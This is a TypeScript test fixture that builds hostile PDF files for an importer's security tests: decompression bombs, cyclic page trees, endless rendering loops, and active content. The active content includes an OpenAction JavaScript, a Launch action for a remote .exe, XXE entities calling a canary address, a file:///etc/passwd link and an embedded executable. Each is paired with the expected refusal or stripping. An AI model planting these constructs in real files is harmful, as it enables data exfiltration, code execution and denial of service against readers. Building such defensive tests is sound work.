import { deflateSync } from 'node:zlib'
import { english } from '#tests/fixtures/import/releases.ts'
import { joinPdf, type PdfParts, pdfStream, writePdf } from '#tests/fixtures/import/write-pdf.ts'
import { type Canary, type HostileFile, hostileFiles, opens, refused } from '#tests/hostile/hostile-file.ts'

const text = english.headline
const honest = [[{ text, x: 40, y: 300 }]]
const shown = opens(['pdf-rebuilt'], { shows: text })
const damaged = refused('FILE_DAMAGED')
const bomb = refused('ARCHIVE_BOMB')

/** PDF files that lie about their build, unpack without end, keep their reader busy, reach outside or carry programs. */
export function pdfFiles(canary: Canary): readonly HostileFile[] {
  return [...build(), ...bombs(), ...busy(), ...active(canary)]
}

const pdf =
  (parts: PdfParts = {}) =>
  (): Uint8Array =>
    writePdf(honest, parts)
/** Another content for the only page; object 10 is the text it had. */
const showing = (operators: string, resources = '', objects: readonly (string | Uint8Array)[] = []) =>
  pdf({
    objects: [pdfStream(`BT /F1 10 Tf 40 742 Td (${text}) Tj ET\n${operators}`), ...objects],
    page: `/Contents 10 0 R /Resources << /Font << /F1 3 0 R ${resources.startsWith('/T3') ? resources : ''} >> ${resources.startsWith('/T3') ? '' : resources} >>`,
  })
const zeros = (mebibytes: number): Uint8Array => deflateSync(new Uint8Array(mebibytes * 1024 * 1024))
const changed = (from: string, to: string) => (): Uint8Array =>
  Buffer.from(Buffer.from(writePdf(honest)).toString('latin1').replace(from, to), 'latin1')

function build(): readonly HostileFile[] {
  const whole = writePdf(honest)
  const tree = (...nodes: readonly string[]): Uint8Array =>
    joinPdf(
      new Map(
        ['<< /Type /Catalog /Pages 2 0 R >>', ...nodes].map((node, index) => [index + 1, Buffer.from(node, 'latin1')]),
      ),
    )
  return hostileFiles('pdf', 'release.pdf', [
    ['cut in half', () => whole.subarray(0, Math.floor(whole.length / 2)), damaged],
    ['cut before its last line', () => whole.subarray(0, -8), damaged],
    ['nothing but a header', () => '%PDF-1.7\n%%EOF\n', damaged],
    ['a tree of pages in a circle', () => tree('<< /Type /Pages /Count 1 /Kids [2 0 R] >>'), damaged],
    [
      'two trees of pages in a circle',
      () => tree('<< /Type /Pages /Count 1 /Kids [3 0 R] >>', '<< /Type /Pages /Count 1 /Kids [2 0 R] >>'),
      damaged,
    ],
    ['a tree of pages 100,000 deep', () => deepTree(100_000), damaged],
    ['two billion pages', changed('/Count 1', '/Count 2000000000'), shown],
    [
      '10,000 pages',
      () => writePdf(Array.from({ length: 10_000 }, () => honest[0] ?? [])),
      opens(['pages-left-out', 'pdf-rebuilt'], { shows: text }),
    ],
    ['a table that follows itself', pdf({ trailer: `/Prev ${Buffer.from(whole).indexOf('xref')}` }), shown],
    ['a table of two billion lines', changed('0 1\n0000000000', '0 2000000000\n0000000000'), shown],
    ['a table that lies elsewhere', changed('startxref\n', 'startxref\n9999999999'), shown],
    ['a length that is itself', changed('/Length 1', '/Length 10 0 R /L 1'), shown],
    ['arrays 100,000 deep', pdf({ objects: ['['.repeat(100_000)], catalog: '/A 10 0 R' }), damaged],
    ['no end of a text', showing(`(${'('.repeat(200_000)}`), shown],
  ])
}

function deepTree(depth: number): Uint8Array {
  const objects = new Map<number, Uint8Array>([[1, Buffer.from('<< /Type /Catalog /Pages 2 0 R >>')]])
  for (let number = 2; number < depth; number += 1)
    objects.set(number, Buffer.from(`<< /Type /Pages /Count 1 /Kids [${number + 1} 0 R] >>`))
  return joinPdf(objects)
}

function bombs(): readonly HostileFile[] {
  const packed = (content: Uint8Array, filter: string): PdfParts => ({
    objects: [pdfStream(content, filter)],
    page: '/Contents 10 0 R',
  })
  return hostileFiles('pdf', 'release.pdf', [
    ['a bomb in a page', pdf(packed(zeros(100), '/Filter /FlateDecode')), bomb],
    ['a bomb that is packed twice', pdf(packed(deflateSync(zeros(200)), '/Filter [/FlateDecode /FlateDecode]')), bomb],
    ['a bomb that calls itself a picture', pdf(packed(zeros(300), '/Subtype /Image /Filter /FlateDecode')), bomb],
    [
      'a picture of 60,000 by 60,000',
      showing('/I1 Do', '/XObject << /I1 11 0 R >>', [
        pdfStream(
          zeros(4),
          '/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode',
        ),
      ]),
      shown,
    ],
  ])
}

function busy(): readonly HostileFile[] {
  const form = (content: string, resources: string): Uint8Array =>
    pdfStream(content, `/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << /XObject << ${resources} >> >>`)
  const forms = Array.from({ length: 30 }, (_, index) =>
    form('/A Do '.repeat(10), index < 29 ? `/A ${12 + index} 0 R` : ''),
  )
  return hostileFiles('pdf', 'release.pdf', [
    ['a form that shows itself', showing('/A Do', '/XObject << /A 11 0 R >>', [form('/A Do', '/A 11 0 R')]), shown],
    [
      'forms that show each other, ten to the thirtieth deep',
      showing('/A Do', '/XObject << /A 11 0 R >>', forms),
      refused('IMPORT_TIMEOUT'),
    ],
    ['50,000 letters deep in states', showing(`${'q '.repeat(5_000)}BT /F1 1 Tf (${'a'.repeat(50_000)}) Tj ET`), shown],
    [
      'a font whose letters are texts in it',
      showing('BT /T3 10 Tf 40 700 Td (aaaa) Tj ET', '/T3 11 0 R', [
        '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 12 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [1] /Resources << /Font << /T3 11 0 R >> >> >>',
        pdfStream('BT /T3 1 Tf (aaaa) Tj ET'),
      ]),
      shown,
    ],
    [
      'a map of four billion letters',
      showing('BT /T3 10 Tf 40 700 Td (ab) Tj ET', '/T3 11 0 R', [
        '<< /Type /Font /Subtype /Type1 /BaseFont /Courier /ToUnicode 12 0 R >>',
        pdfStream('begincmap 1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange endcmap'),
      ]),
      shown,
    ],
    [
      'a font of noise',
      showing('BT /T3 10 Tf 40 700 Td (ab) Tj ET', '/T3 11 0 R', [
        '<< /Type /Font /Subtype /TrueType /BaseFont /X /FontDescriptor 12 0 R >>',
        '<< /Type /FontDescriptor /FontName /X /Flags 4 /FontFile2 13 0 R >>',
        pdfStream(Uint8Array.from({ length: 20_000 }, (_, index) => (index * 7919 + (index >> 3) * 31) % 256)),
      ]),
      shown,
    ],
    [
      'a program that never ends in a shade',
      showing('/S1 sh', '/Shading << /S1 11 0 R >>', [
        '<< /ShadingType 1 /ColorSpace /DeviceGray /Domain [0 100000 0 100000] /Function 12 0 R >>',
        pdfStream(`{ ${'dup mul '.repeat(20_000)} }`, '/FunctionType 4 /Domain [0 100000 0 100000] /Range [0 1]'),
      ]),
      refused('IMPORT_TIMEOUT'),
    ],
    ['signs by the hundred thousand', showing(`BT /F1 4 Tf 40 700 Td (${'+. '.repeat(30_000)}) Tj ET`), shown],
    ['letters of no size and of any', showing('BT /F1 0 Tf (a) Tj /F1 1e30 Tf (b) Tj /F1 -1e-30 Tf (c) Tj ET'), shown],
  ])
}

function active({ address, host }: Canary): readonly HostileFile[] {
  const open = (action: string) => pdf({ catalog: `/OpenAction << ${action} >>` })
  const scripts = opens(['macros-dropped', 'pdf-rebuilt'], { shows: text, hides: 'struck' })
  const quiet = opens(['pdf-rebuilt'], { shows: text, hides: host })
  const link = (address_: string): PdfParts => ({
    page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${address_}) >> >>]`,
  })
  return hostileFiles('pdf', 'release.pdf', [
    ['a script when it is opened', open('/S /JavaScript /JS (struck\\(\\))'), scripts],
    [
      'a script by its name',
      pdf({ catalog: '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (struck\\(\\)) >>] >> >>' }),
      scripts,
    ],
    ['a program that is started', open(`/S /Launch /F (\\\\\\\\${host}\\\\a.exe)`), quiet],
    ['an address that is opened', open(`/S /URI /URI (${address})`), quiet],
    ['a file elsewhere that is opened', open(`/S /GoToR /F (http://${host}/a.pdf) /D [0 /Fit]`), quiet],
    ['a form that is sent', open(`/S /SubmitForm /F << /FS /URL /F (${address}) >>`), quiet],
    [
      'a page whose text is elsewhere',
      pdf({ objects: [pdfStream('', `/F << /FS /URL /F (${address}) >>`)], page: '/Contents 10 0 R' }),
      refused('PDF_NO_TEXT'),
    ],
    [
      'a program that is attached',
      pdf({
        catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 10 0 R] >> >>',
        objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 11 0 R >> >>', pdfStream('MZ struck')],
      }),
      opens(['embedded-objects-dropped', 'pdf-rebuilt'], { shows: text, hides: 'struck' }),
    ],
    [
      'a form in XML with an entity',
      pdf({
        catalog: '/AcroForm << /XFA 10 0 R >>',
        objects: [pdfStream(`<!DOCTYPE x [<!ENTITY a SYSTEM "${address}">]><xdp>&a;</xdp>`)],
      }),
      quiet,
    ],
    [
      'metadata with an entity',
      pdf({
        catalog: '/Metadata 10 0 R',
        objects: [
          pdfStream(`<!DOCTYPE x [<!ENTITY a SYSTEM "${address}">]><x>&a;</x>`, '/Type /Metadata /Subtype /XML'),
        ],
      }),
      quiet,
    ],
    [
      'a link that is a script',
      pdf(link('javascript:struck\\(\\)')),
      opens(['links-dropped', 'pdf-rebuilt'], { shows: text, hides: 'struck' }),
    ],
    [
      'a link to a file',
      pdf(link('file:///etc/passwd')),
      opens(['links-dropped', 'pdf-rebuilt'], { shows: text, hides: 'passwd' }),
    ],
    [
      'a lock',
      pdf({
        trailer: `/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <${'00'.repeat(32)}> /U <${'11'.repeat(32)}> >> /ID [<00> <00>]`,
      }),
      refused('FILE_PASSWORD_PROTECTED'),
    ],
    ['a lock that nobody knows', pdf({ trailer: '/Encrypt << /Filter /Nobody.Knows >> /ID [<00> <00>]' }), damaged],
  ])
}
